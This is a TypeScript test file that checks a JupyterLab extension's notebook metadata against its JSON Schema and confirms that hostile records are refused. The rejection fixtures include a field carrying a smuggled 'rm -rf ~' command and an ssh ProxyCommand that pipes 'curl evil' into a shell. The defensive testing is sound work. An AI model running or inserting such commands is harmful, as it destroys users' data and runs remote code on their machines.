/**
 * The JSON Schema of the metadata key (docs/format/metadata.schema.json)
 * against what the code writes and reads: every writer's output must be
 * valid, every example of docs/format.md too, and a hostile record the
 * schema refuses must be refused (or its field ignored) by the readers.
 */
import Ajv2020, { ValidateFunction } from 'ajv/dist/2020';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import type { ICellModel } from '@jupyterlab/cells';
import { NotebookModel } from '@jupyterlab/notebook';
import {
  FORMAT_VERSION,
  errorLabel,
  MAX_TICKS_PER_CELL,
  METADATA_KEY,
  readCellRecord,
  readNotebookRecord,
  withFill,
  withKeptOutputs,
  withLogEntries,
  withManualStep,
  withRun,
  withTick,
  withCheck,
  withCheckResult,
  MAX_CHECKS_PER_CELL
} from '../../../src/core/metadata/format';
import { checkVersion } from '../../../src/core/checks/status';
import { fingerprint } from '../../../src/core/notebook/hash';
import { blockKeys } from '../../../src/core/notebook/steps';
import { EventLog } from '../../../src/lab/progress/log';
import {
  recordCheckResult,
  recordRun,
  recordTick
} from '../../../src/lab/progress/records';
import { applyPlans } from '../../../src/lab/placeholders/apply';
import {
  definitionsOf,
  MAX_DEFINITIONS
} from '../../../src/core/placeholders/authored';
import { planFill } from '../../../src/core/placeholders/engine';
import {
  IDeclarations,
  sharedDeclarations,
  withDeclarations,
  withField
} from '../../../src/core/authoring/declarations';
import { cleanNotebookText } from '../../../src/core/authoring/clean';
import { writeSampleClass } from '../../../src/node/grading/samples';
import {
  declaredMarkers,
  MAX_DECLARED_MARKERS
} from '../../../src/core/terminals/markers';
import {
  declaredNodes,
  MAX_DECLARED_NODES
} from '../../../src/core/terminals/topology';
import { fillable, readNotebook, SAMPLE_DIR } from '../../helpers';

const ROOT = path.resolve(__dirname, '../../..');
const SCHEMA = JSON.parse(
  fs.readFileSync(path.join(ROOT, 'docs/format/metadata.schema.json'), 'utf-8')
);
const FORMAT_DOC = path.join(ROOT, 'docs/format.md');

const ajv = new Ajv2020({ strict: true, allErrors: true });
ajv.addSchema(SCHEMA);
const validators: { [kind in 'cell' | 'notebook']: ValidateFunction } = {
  cell: ajv.getSchema(`${SCHEMA.$id}#/$defs/cell`)!,
  notebook: ajv.getSchema(`${SCHEMA.$id}#/$defs/notebook`)!
};

/** The schema's complaints about a record, empty when it is valid. */
function problems(kind: 'cell' | 'notebook', record: unknown): string {
  const validate = validators[kind];
  return validate(record) ? '' : ajv.errorsText(validate.errors);
}

/** Every record under our key in a notebook's JSON, with where it sits. */
function recordsOf(notebook: {
  metadata?: { [key: string]: unknown };
  cells: { metadata?: { [key: string]: unknown } }[];
}): { kind: 'cell' | 'notebook'; where: string; record: unknown }[] {
  const found: { kind: 'cell' | 'notebook'; where: string; record: unknown }[] =
    [];
  if (notebook.metadata?.[METADATA_KEY] !== undefined) {
    found.push({
      kind: 'notebook',
      where: 'notebook',
      record: notebook.metadata[METADATA_KEY]
    });
  }
  notebook.cells.forEach((cell, index) => {
    if (cell.metadata?.[METADATA_KEY] !== undefined) {
      found.push({
        kind: 'cell',
        where: `cell ${index}`,
        record: cell.metadata[METADATA_KEY]
      });
    }
  });
  return found;
}

/** The schema's complaints about every record of a notebook, by place. */
function notebookProblems(notebook: Parameters<typeof recordsOf>[0]): {
  [where: string]: string;
} {
  const all: { [where: string]: string } = {};
  for (const { kind, where, record } of recordsOf(notebook)) {
    const problem = problems(kind, record);
    if (problem) {
      all[where] = problem;
    }
  }
  return all;
}

function sampleModel(name: string): NotebookModel {
  const model = new NotebookModel();
  model.fromJSON(readNotebook(path.join(SAMPLE_DIR, name)));
  return model;
}

const START = new Date('2026-11-23T16:02:11.345Z');

describe('the schema', () => {
  it('states the version and the caps the code keeps to', () => {
    const defs = SCHEMA.$defs;
    const logLimit = JSON.parse(
      fs.readFileSync(path.join(ROOT, 'schema/progress.json'), 'utf-8')
    ).properties.logLimit;
    expect(defs.version.const).toBe(FORMAT_VERSION);
    expect(defs.cell.properties.ticks.maxProperties).toBe(MAX_TICKS_PER_CELL);
    expect(defs.notebook.properties.log.maxItems).toBe(logLimit.maximum);
    expect(defs.notebook.properties.placeholders.maxItems).toBe(
      MAX_DEFINITIONS
    );
    expect(defs.notebook.properties.nodes.maxItems).toBe(MAX_DECLARED_NODES);
    expect(defs.notebook.properties.markers.maxItems).toBe(
      MAX_DECLARED_MARKERS
    );
    expect(defs.cell.properties.checks.maxProperties).toBe(MAX_CHECKS_PER_CELL);
    expect(defs.cell.properties.chk.maxProperties).toBe(MAX_CHECKS_PER_CELL);
  });
});

/** A cell's checks declared, checked, and taken back. */
function checkRecords(key: string) {
  const check = { cmd: 'test -f /tmp/x', on: 'all', t: 10, hint: 'Run it' };
  const declared = withCheck(null, key, check);
  const failed = withCheckResult(declared, key, {
    at: '2026-12-02T05:00:00Z',
    r: 'fail',
    x: 1,
    ver: checkVersion(check)
  });
  return [declared, failed, withCheck(failed, key, null)];
}

describe('every writer writes what the schema describes', () => {
  it('the format writers', () => {
    const src = fingerprint('openstack server list');
    const failed = withRun(null, {
      start: START,
      ms: 812.4,
      ok: false,
      error: errorLabel('', '1'),
      src,
      count: 14
    });
    const again = withRun(failed, { start: START, ms: 3, ok: true, src });
    let ticked = withTick(again, 'cell', {
      at: '2026-11-23T16:25:00Z',
      via: 'node1, node2, node3'
    });
    // One more tick than a cell keeps: the oldest is dropped.
    for (let i = 0; i <= MAX_TICKS_PER_CELL; i++) {
      ticked = withTick(ticked, fingerprint(`block ${i}`), {
        at: `2026-11-23T16:${String(i % 60).padStart(2, '0')}:00Z`,
        via: 'tick'
      });
    }
    const records = [
      failed,
      again,
      ticked,
      withTick(ticked, 'cell', null),
      withFill(null, { tpl: 'echo netID', out: fingerprint('echo ff524') }),
      withKeptOutputs(null, true),
      withManualStep(withKeptOutputs(null, true), true),
      ...checkRecords(src)
    ];
    records.forEach(record => expect(problems('cell', record)).toBe(''));

    const log = withLogEntries(
      null,
      [
        { at: START, result: 'error:exit 1', ref: src },
        { at: START, result: 'tick:node1, node2', ref: 'cell' },
        { at: START, result: 'untick', ref: `${src}.2` }
      ],
      1000
    );
    expect(problems('notebook', log)).toBe('');
    const capped = withLogEntries(
      log,
      Array.from({ length: 1200 }, () => ({
        at: START,
        result: 'ok',
        ref: src
      })),
      1000
    );
    expect(problems('notebook', capped)).toBe('');
  });

  it('the progress recorder and its log', () => {
    /** The cell with the check declared, as the Author section does. */
    const withCheckedCell = (
      cell: ICellModel,
      check: { cmd: string; on: string }
    ) => {
      cell.setMetadata(
        METADATA_KEY,
        withCheck(
          (cell.getMetadata(METADATA_KEY) as any) ?? null,
          'cell',
          check
        ) as any
      );
      return cell;
    };
    const model = sampleModel('2_docker_kubernetes.ipynb');
    const log = new EventLog({ limit: () => 100 });
    let runs = 0;
    let ticks = 0;
    for (let i = 0; i < model.cells.length; i++) {
      const cell = model.cells.get(i);
      const source = cell.sharedModel.getSource();
      if (cell.type === 'code') {
        recordRun(
          model,
          cell,
          {
            start: START,
            end: new Date(START.getTime() + 40),
            ok: i % 3 !== 0,
            error: errorLabel('NameError', 'x'),
            src: fingerprint(source),
            count: i + 1
          },
          log
        );
        const check = { cmd: `test -f ~/${i}`, on: 'node1' };
        recordCheckResult(
          model,
          withCheckedCell(cell, check),
          'cell',
          {
            at: '2026-11-23T16:05:00Z',
            r: (['pass', 'fail', 'timeout', 'unreachable'] as const)[i % 4],
            ver: checkVersion(check)
          },
          log
        );
        runs++;
      } else {
        const [first, repeated] = blockKeys([
          fingerprint(source),
          fingerprint(source)
        ]);
        recordTick(
          model,
          cell,
          first,
          { at: START.toISOString(), via: 'node1' },
          log
        );
        recordTick(
          model,
          cell,
          repeated,
          { at: '2026-11-23T16:03:00Z', via: 'tick' },
          log
        );
        recordTick(
          model,
          cell,
          'cell',
          { at: '2026-11-23T16:04:00Z', via: 'tick' },
          log
        );
        recordTick(model, cell, first, null, log);
        ticks++;
      }
    }
    log.flush();
    log.dispose();
    expect(runs).toBeGreaterThan(0);
    expect(ticks).toBeGreaterThan(0);
    const json = model.toJSON() as Parameters<typeof recordsOf>[0];
    expect(recordsOf(json).length).toBe(runs + ticks + 1);
    expect(notebookProblems(json)).toEqual({});
  });

  it('the placeholders fill record', () => {
    const model = sampleModel('1_provision_cli.ipynb');
    const values = fillable({
      netID: 'ff524',
      project: 'CHI-231095',
      floatingIp: '129.114.25.134',
      sharednetIp: '10.56.2.117'
    }).values;
    const filled = applyPlans(model, (s, r) => planFill(s, r, values));
    expect(filled.written.length).toBeGreaterThan(5);
    const json = model.toJSON() as Parameters<typeof recordsOf>[0];
    expect(recordsOf(json).length).toBeGreaterThanOrEqual(
      filled.written.length
    );
    expect(notebookProblems(json)).toEqual({});
  });

  it('the author section, sharing declarations, and cleaning for publishing', () => {
    // Rows as the Author section builds them, one typed field at a time.
    const row = (fields: [string, string][]) =>
      fields.reduce<unknown>(
        (entry, [key, text]) => withField(entry, key, text),
        {}
      );
    const declarations: IDeclarations = {
      placeholders: [
        row([
          ['token', '<master-ip>'],
          ['label', ''],
          ['example', '3.91.22.10']
        ])
      ],
      nodes: [
        row([
          ['name', 'node-data'],
          ['host', '{floatingIp}']
        ]),
        row([
          ['name', 'node-ml'],
          ['host', '192.168.1.20'],
          ['jump', 'node-data']
        ])
      ],
      markers: ['# exec on'],
      notLists: []
    };
    const own = withDeclarations(
      { v: 1, by: '0.1.0', log: ['2026-11-23T16:20:05Z ok 3f9a1b2c'] },
      declarations
    );
    expect(own).not.toBeNull();
    expect(own?.nodes).toHaveLength(2);
    expect(problems('notebook', own)).toBe('');
    const shared = sharedDeclarations({ v: 1, log: [] }, declarations);
    expect(shared.ok && problems('notebook', shared.record)).toBe('');

    // A notebook a student used, cleaned the way Prepare for Publishing does.
    const model = sampleModel('1_provision_cli.ipynb');
    model.setMetadata(METADATA_KEY, own as any);
    const kept = model.cells.get(1);
    kept.setMetadata(METADATA_KEY, withKeptOutputs(null, true) as any);
    for (let i = 2; i < model.cells.length; i++) {
      const cell = model.cells.get(i);
      recordRun(
        model,
        cell,
        { start: START, end: START, ok: true, src: fingerprint('x') },
        null
      );
    }
    const cleaned = cleanNotebookText(JSON.stringify(model.toJSON()));
    expect(cleaned.problem).toBeUndefined();
    const json = JSON.parse(cleaned.text!);
    expect(json.metadata[METADATA_KEY].nodes).toHaveLength(2);
    expect(json.cells[1].metadata[METADATA_KEY]).toEqual({ v: 1, keep: true });
    expect(notebookProblems(json)).toEqual({});
  });

  it('the sample classes of the grading command line, honest students', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'jlt-schema-'));
    try {
      const sample = writeSampleClass(dir, { students: 4, cells: 20, seed: 7 });
      const honest = Object.entries(sample.expected).filter(
        ([, expected]) => !expected.problem && expected.flags.length === 0
      );
      expect(honest.length).toBeGreaterThan(3);
      let records = 0;
      for (const [file] of honest) {
        const json = JSON.parse(fs.readFileSync(path.join(dir, file), 'utf-8'));
        records += recordsOf(json).length;
        expect([file, notebookProblems(json)]).toEqual([file, {}]);
      }
      expect(records).toBeGreaterThan(honest.length);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('the examples of docs/format.md', () => {
  const text = fs.readFileSync(FORMAT_DOC, 'utf-8');
  const fences = [...text.matchAll(/```json\n([\s\S]*?)\n```/g)];
  const examples = [
    ...text.matchAll(
      /<!-- metadata: (cell|notebook) -->\n+```json\n([\s\S]*?)\n```/g
    )
  ].map(match => ({
    kind: match[1] as 'cell' | 'notebook',
    // Each shows the key and its value, as in a notebook's metadata.
    record: JSON.parse(`{${match[2]}}`)[METADATA_KEY]
  }));

  it('says of every JSON example whether it is a cell or a notebook record', () => {
    expect(examples.length).toBeGreaterThanOrEqual(7);
    expect(examples.length).toBe(fences.length);
  });

  it('are valid, and the readers read them', () => {
    for (const { kind, record } of examples) {
      expect([record, problems(kind, record)]).toEqual([record, '']);
      const read =
        kind === 'cell' ? readCellRecord(record) : readNotebookRecord(record);
      expect(read.status).toBe('ok');
    }
  });
});

describe('what the schema refuses, the readers refuse', () => {
  const run = { n: 1, last: '2026-11-23T16:20:05Z', ms: 5, src: 'abcd1234' };
  const cells: [string, unknown][] = [
    ['a list', []],
    ['no version', { run }],
    ['a version as text', { v: '1', run }],
    ['a newer version', { v: FORMAT_VERSION + 1 }],
    ['no runs counted', { v: 1, run: { ...run, n: 0 } }],
    ['a negative duration', { v: 1, run: { ...run, ms: -5 } }],
    [
      'a run without its source',
      { v: 1, run: { n: 1, last: run.last, ms: 1 } }
    ],
    ['an execution count of zero', { v: 1, run: { ...run, c: 0 } }],
    ['a tick without via', { v: 1, ticks: { cell: { at: run.last } } }],
    ['ticks as a list', { v: 1, ticks: [{ at: run.last, via: 'tick' }] }],
    ['a fill without what was filled', { v: 1, fill: { tpl: 'netID' } }],
    ['a step that is not manual', { v: 1, step: 'auto' }],
    ['keep false', { v: 1, keep: false }],
    ['a check without a command', { v: 1, checks: { cell: { on: 'node1' } } }],
    [
      'a check whose place is a sentence',
      { v: 1, checks: { cell: { cmd: 'true', on: 'node1; rm -rf ~' } } }
    ],
    [
      'a check with a timeout of an hour',
      { v: 1, checks: { cell: { cmd: 'true', on: 'node1', t: 3600 } } }
    ],
    [
      'a check result that is no outcome',
      { v: 1, chk: { cell: { at: run.last, r: 'ok', ver: 'abcd1234' } } }
    ]
  ];
  it.each(cells)('a cell record with %s', (_, record) => {
    expect(problems('cell', record)).not.toBe('');
    expect(readCellRecord(record).status).not.toBe('ok');
  });

  const notebooks: [string, unknown][] = [
    ['a text', 'v1'],
    ['a log that is a text', { v: 1, log: 'ok' }],
    ['a log of numbers', { v: 1, log: [1, 2] }],
    ['a version of the writer that is a number', { v: 1, by: 1 }]
  ];
  it.each(notebooks)('a notebook record with %s', (_, record) => {
    expect(problems('notebook', record)).not.toBe('');
    expect(readNotebookRecord(record).status).not.toBe('ok');
  });

  const placeholders: [string, unknown][] = [
    ['no token', { field: 'netID' }],
    ['a token over two lines', { token: 'net\nID' }],
    ['a token longer than 100 characters', { token: 'x'.repeat(101) }],
    ['a field that is not a simple name', { token: 'IP', field: 'a b' }],
    ['a label that is not text', { token: 'IP', label: { html: '<b>' } }]
  ];
  it.each(placeholders)('a declared placeholder with %s', (_, entry) => {
    const record = { v: 1, placeholders: [entry] };
    expect(problems('notebook', record)).not.toBe('');
    expect(definitionsOf(record).problems).toHaveLength(1);
  });

  it('a declared node that chooses its key, agent or ssh options', () => {
    const record = {
      v: 1,
      nodes: [
        {
          name: 'node1',
          host: '10.0.0.1',
          identityFile: '~/.ssh/id_rsa',
          forwardAgent: true,
          options: { ProxyCommand: 'curl evil | sh' }
        }
      ]
    };
    expect(problems('notebook', record)).not.toBe('');
    const read = declaredNodes(record);
    expect(read.ignored.sort()).toEqual([
      'forwardAgent',
      'identityFile',
      'options'
    ]);
    expect(read.nodes).toEqual([
      { name: 'node1', host: '10.0.0.1', user: 'cc', jump: undefined }
    ]);
  });

  const nodeLists: [string, unknown][] = [
    ['an empty list', []],
    ['a node without host', [{ name: 'node1' }]],
    ['a user that is not text', [{ name: 'n', host: 'h', user: 0 }]]
  ];
  it.each(nodeLists)('declared nodes: %s', (_, nodes) => {
    const record = { v: 1, nodes };
    expect(problems('notebook', record)).not.toBe('');
    expect(declaredNodes(record).nodes).toBeNull();
  });

  const wordings: [string, unknown][] = [
    ['not a text', 5],
    ['blank', '  '],
    ['over two lines', '# exec\non'],
    ['longer than 100 characters', `# ${'x'.repeat(100)}`]
  ];
  it.each(wordings)('a marker wording %s', (_, wording) => {
    const record = { v: 1, markers: [wording] };
    expect(problems('notebook', record)).not.toBe('');
    expect(declaredMarkers(record).problems).toHaveLength(1);
  });
});
